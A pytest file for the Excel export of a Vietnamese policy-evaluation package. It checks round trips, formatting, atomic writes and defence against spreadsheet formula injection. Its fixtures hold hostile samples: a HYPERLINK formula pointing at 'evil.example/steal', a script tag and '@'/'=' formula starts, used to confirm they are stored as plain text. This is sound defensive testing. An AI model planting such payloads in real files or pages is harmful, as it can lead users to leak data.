"""The Excel export: round trip against evaluate_all, formatting, formula injection, atomicity."""

from __future__ import annotations

import csv
import dataclasses
import json
import math
import re
import shutil
import zipfile
from datetime import datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from kiemnhiem.cli import main
from kiemnhiem.dataset import load_dataset
from kiemnhiem.district import DISTRICT_VERDICTS
from kiemnhiem.evaluation import evaluate_all
from kiemnhiem.exceptions import ParameterError
from kiemnhiem.export import (
    ESTIMATE_COLUMNS,
    SHEET_DATA,
    SHEET_ESTIMATES,
    SHEET_INFO,
    SHEET_VERDICTS,
    VERDICT_COLUMNS,
    YEARLY_COLUMNS,
    export_results,
    safe_text,
)
from kiemnhiem.labels import label
from kiemnhiem.resources import demo_dir
from kiemnhiem.timeline import annual_panel

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/steal","click me")'
HOSTILE_SCRIPT = "<script>alert(1)</script>"
HOSTILE_COMMENT = f"{HOSTILE_SCRIPT} Cần bổ sung số liệu năm 2016."
HOSTILE_AUTHOR = "@SUM(1+1)"


def make_hostile_dataset(folder: Path) -> Path:
    """A copy of the demo with hostile text where analysts type freely.

    The dataset's name and an analyst comment carry a script tag; a panel note (unit 118,
    so_cuoc_hop, 2016) and the comment's author start like spreadsheet formulas.
    """
    shutil.copytree(demo_dir(), folder)
    meta = json.loads((folder / "metadata.json").read_text(encoding="utf-8"))
    meta["name"] = f"Dữ liệu thử {HOSTILE_SCRIPT}"
    (folder / "metadata.json").write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
    panel = folder / "panel.csv"
    with panel.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    hit = [
        r
        for r in rows
        if (r["unit"], r["period"], r["indicator"]) == ("118", "2016", "so_cuoc_hop")
    ]
    assert len(hit) == 1
    hit[0]["note"] = HOSTILE_NOTE
    with panel.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with (folder / "comments.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["unit", "model", "comment", "author", "date"])
        writer.writerow(["118", "danvan_mttq", HOSTILE_COMMENT, HOSTILE_AUTHOR, "2021-06-30"])
    return folder


@pytest.fixture(scope="module")
def demo():
    return load_dataset(None)


@pytest.fixture(scope="module")
def demo_results(demo):
    return evaluate_all(demo)


@pytest.fixture(scope="module")
def exported(demo, demo_results, tmp_path_factory):
    out = tmp_path_factory.mktemp("export") / "ket_qua.xlsx"
    export_results(demo, out, results=demo_results)
    return out


def _sheet_records(ws) -> tuple[list[str], list[dict]]:
    rows = list(ws.iter_rows(values_only=True))
    codes = list(rows[1])
    return codes, [dict(zip(codes, r, strict=True)) for r in rows[2:]]


def _same(expected, got) -> bool:
    """An evaluate_all value against what the sheet holds."""
    if expected is None or expected is pd.NA or expected is pd.NaT:
        return got is None
    if isinstance(expected, pd.Timestamp):
        return got == expected.to_pydatetime()
    if isinstance(expected, (bool, np.bool_)):
        return got is bool(expected)
    if isinstance(expected, (float, np.floating)):
        if math.isnan(expected):
            return got is None
        if math.isinf(expected):
            return got == ("+∞" if expected > 0 else "-∞")
        return isinstance(got, (int, float)) and math.isclose(got, expected, rel_tol=1e-12)
    if isinstance(expected, (int, np.integer)):
        return got == int(expected)
    return got == ("" if expected == "" else expected) or (expected == "" and got is None)


def test_sheets_and_codes(exported):
    book = load_workbook(exported)
    assert book.sheetnames == [SHEET_INFO, SHEET_ESTIMATES, SHEET_VERDICTS, SHEET_DATA]
    assert [c.value for c in book[SHEET_ESTIMATES][2]] == list(ESTIMATE_COLUMNS)
    assert [c.value for c in book[SHEET_VERDICTS][2]] == list(VERDICT_COLUMNS)
    assert [c.value for c in book[SHEET_DATA][2]] == list(YEARLY_COLUMNS)
    # Row 1 holds the labels, in Vietnamese by default.
    assert book[SHEET_ESTIMATES]["A1"].value == label("export_col_scope", "vi")
    assert book[SHEET_DATA]["F1"].value == label("export_col_value", "vi")


def test_estimates_round_trip(exported, demo_results):
    _codes, records = _sheet_records(load_workbook(exported)[SHEET_ESTIMATES])
    assert len(records) == len(demo_results)
    skip = {"indicator_name"}
    for (_, expected), got in zip(demo_results.iterrows(), records, strict=True):
        for column in ESTIMATE_COLUMNS:
            if column in skip:
                continue
            assert _same(expected[column], got[column]), (column, expected[column], got[column])


def test_unbounded_intervals_are_written_as_infinity_signs(exported, demo_results):
    _codes, records = _sheet_records(load_workbook(exported)[SHEET_ESTIMATES])
    infinite = demo_results["ci_high"].map(lambda v: isinstance(v, float) and math.isinf(v))
    assert infinite.any()  # the demo's single pilots with 7 placebos have unbounded intervals
    for flag, got in zip(infinite, records, strict=True):
        if flag:
            assert got["ci_high"] == "+∞"


def test_verdicts_round_trip(exported, demo_results):
    _codes, records = _sheet_records(load_workbook(exported)[SHEET_VERDICTS])
    assert [r["verdict"] for r in records] == list(demo_results["verdict"])
    assert [r["reason"] for r in records] == list(demo_results["reason_vi"])
    assert [r["unit_code"] for r in records] == list(demo_results["unit_code"])
    assert {r["verdict_text"] for r in records} <= {
        label(f"eval_verdict_{v}", "vi")
        for v in ("improved", "worsened", "changed", "no_clear_change", "not_assessed",
                  *DISTRICT_VERDICTS)
    }
    # The rank among districts stays beside the district verdict.
    pilots = list(demo_results["scope"] == "pilot")
    assert [r["placebo_verdict"] for r, p in zip(records, pilots, strict=True) if p] == list(
        demo_results.loc[demo_results["scope"] == "pilot", "placebo_verdict"])


def test_yearly_data_round_trip(exported, demo, demo_results):
    _codes, records = _sheet_records(load_workbook(exported)[SHEET_DATA])
    annual = annual_panel(demo)
    annual = annual[annual["indicator"].isin(set(demo_results["indicator"]))]
    assert len(records) == len(annual)
    got = {(r["unit_code"], r["indicator"], r["year"]): r for r in records}
    for rec in annual.itertuples(index=False):
        row = got[(rec.unit_code, rec.indicator, rec.year)]
        assert _same(rec.value, row["value"]), rec
        assert row["partial"] is bool(rec.partial)
    # Unit codes keep their leading digits as text ("094" stays "094").
    assert all(isinstance(r["unit_code"], str) for r in records)


def test_formatted_for_reading(exported):
    book = load_workbook(exported)
    ws = book[SHEET_ESTIMATES]
    assert ws.freeze_panes == "F3"
    assert ws["A1"].font.bold
    assert ws.auto_filter.ref.startswith("A2:")
    column = {c.value: c.column_letter for c in ws[2]}
    assert ws[f"{column['p_better']}3"].number_format == "0.0000"
    assert ws[f"{column['start']}3"].number_format == "dd/mm/yyyy"
    assert ws[f"{column['pct_change']}3"].number_format == "+0.0%;-0.0%;0.0%"
    assert ws.column_dimensions[column["unit_name"]].width >= len("Thành phố Sơn La")
    info = book[SHEET_INFO]
    assert info["A2"].value == label("report_synthetic_title", "vi")  # the demo is synthetic
    assert book.active.title == SHEET_INFO
    # Shares are shown as percent in the yearly sheet, counts as numbers.
    data = book[SHEET_DATA]
    formats = {
        (r[2].value, r[5].number_format)
        for r in data.iter_rows(min_row=3)
        if r[5].value is not None
    }
    assert ("dat_chuan_co_so", "0.0%") in formats and ("so_cuoc_hop", "#,##0.00") in formats


def test_english_headers(demo, demo_results, tmp_path):
    out = export_results(demo, tmp_path / "en.xlsx", lang="en", results=demo_results)
    book = load_workbook(out)
    assert book[SHEET_ESTIMATES]["A1"].value == label("export_col_scope", "en")
    _codes, records = _sheet_records(book[SHEET_VERDICTS])
    assert [r["reason"] for r in records] == list(demo_results["reason_en"])


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+1", True),
        ("+84 912", True),
        ("-5", True),
        ("@SUM(A1)", True),
        ("\tx", True),
        ("\rx", True),
        ("Số cuộc họp", False),
        ("2015;2016", False),
        ("", False),
    ],
)
def test_safe_text_flags_formula_starts(text, guarded):
    assert safe_text(text) == (text, guarded)


def test_safe_text_drops_xml_illegal_characters():
    assert safe_text("a\x00b\x1fc") == ("abc", False)


def test_hostile_text_is_never_a_formula(tmp_path):
    ds = load_dataset(make_hostile_dataset(tmp_path / "ds"))
    results = evaluate_all(ds, models=["danvan_mttq"])
    out = export_results(ds, tmp_path / "out.xlsx", results=results)
    book = load_workbook(out)
    data = book[SHEET_DATA]
    notes = [
        r[8]
        for r in data.iter_rows(min_row=3)
        if (r[0].value, r[2].value, r[4].value) == ("118", "so_cuoc_hop", 2016)
    ]
    assert len(notes) == 1
    cell = notes[0]
    assert cell.value == HOSTILE_NOTE  # kept as typed ...
    assert cell.data_type == "s" and cell.quotePrefix  # ... but stored as text
    # No formula anywhere in the file.
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            assert not re.search(r"<f[ >]", zf.read(name).decode("utf-8")), name
    # The unbounded interval ends, which start with "-" or "+", are text too.
    ws = book[SHEET_ESTIMATES]
    column = {c.value: c.column_letter for c in ws[2]}
    lows = [c for c in ws[column["ci_low"]][2:] if c.value == "-∞"]
    assert lows and all(c.data_type == "s" for c in lows)


def test_an_earlier_export_is_replaced_atomically(demo, demo_results, tmp_path):
    out = tmp_path / "out.xlsx"
    export_results(demo, out, results=demo_results)
    first = out.stat().st_mtime_ns
    export_results(demo, out, results=demo_results)
    assert out.stat().st_mtime_ns >= first
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx"]  # no temporary left


def test_refuses_to_overwrite_other_workbooks(demo, demo_results, tmp_path):
    from openpyxl import Workbook

    theirs = tmp_path / "so_lieu.xlsx"
    book = Workbook()
    book.active["A1"] = "số liệu của chuyên viên"
    book.save(theirs)
    with pytest.raises(ParameterError):
        export_results(demo, theirs, results=demo_results)
    assert load_workbook(theirs).active["A1"].value == "số liệu của chuyên viên"
    export_results(demo, theirs, results=demo_results, overwrite=True)
    assert load_workbook(theirs).sheetnames[0] == SHEET_INFO


def test_refuses_the_dataset_itself_and_other_suffixes(demo, demo_results, tmp_path):
    workbook = tmp_path / "du_lieu.xlsx"
    as_workbook = dataclasses.replace(demo, path=workbook)
    with pytest.raises(ParameterError):
        export_results(as_workbook, workbook, results=demo_results, overwrite=True)
    with pytest.raises(ParameterError):
        export_results(demo, tmp_path / "out.csv", results=demo_results)
    assert list(tmp_path.iterdir()) == []


def test_cli_export(tmp_path, capsys):
    out = tmp_path / "sub" / "ket_qua.xlsx"
    assert main(["export", str(out)]) == 0
    assert out.is_file() and str(out) in capsys.readouterr().out
    book = load_workbook(out, read_only=True)
    assert book.sheetnames == [SHEET_INFO, SHEET_ESTIMATES, SHEET_VERDICTS, SHEET_DATA]
    book.close()
    assert main(["export", str(demo_dir()), str(tmp_path / "en.xlsx"), "--lang", "en"]) == 0
    assert main(["export", str(tmp_path / "out.csv")]) == 2
    assert "xlsx" in capsys.readouterr().err


def test_info_sheet_records_what_made_it(exported, demo):
    info = {r[0]: r[1] for r in load_workbook(exported)[SHEET_INFO].iter_rows(values_only=True)}
    assert info[label("export_info_dataset", "vi")] == demo.name
    assert info[label("export_info_hash", "vi")] == demo.content_hash
    assert info[label("export_info_level", "vi")] == 0.10
    assert isinstance(info[label("export_info_made", "vi")], datetime)
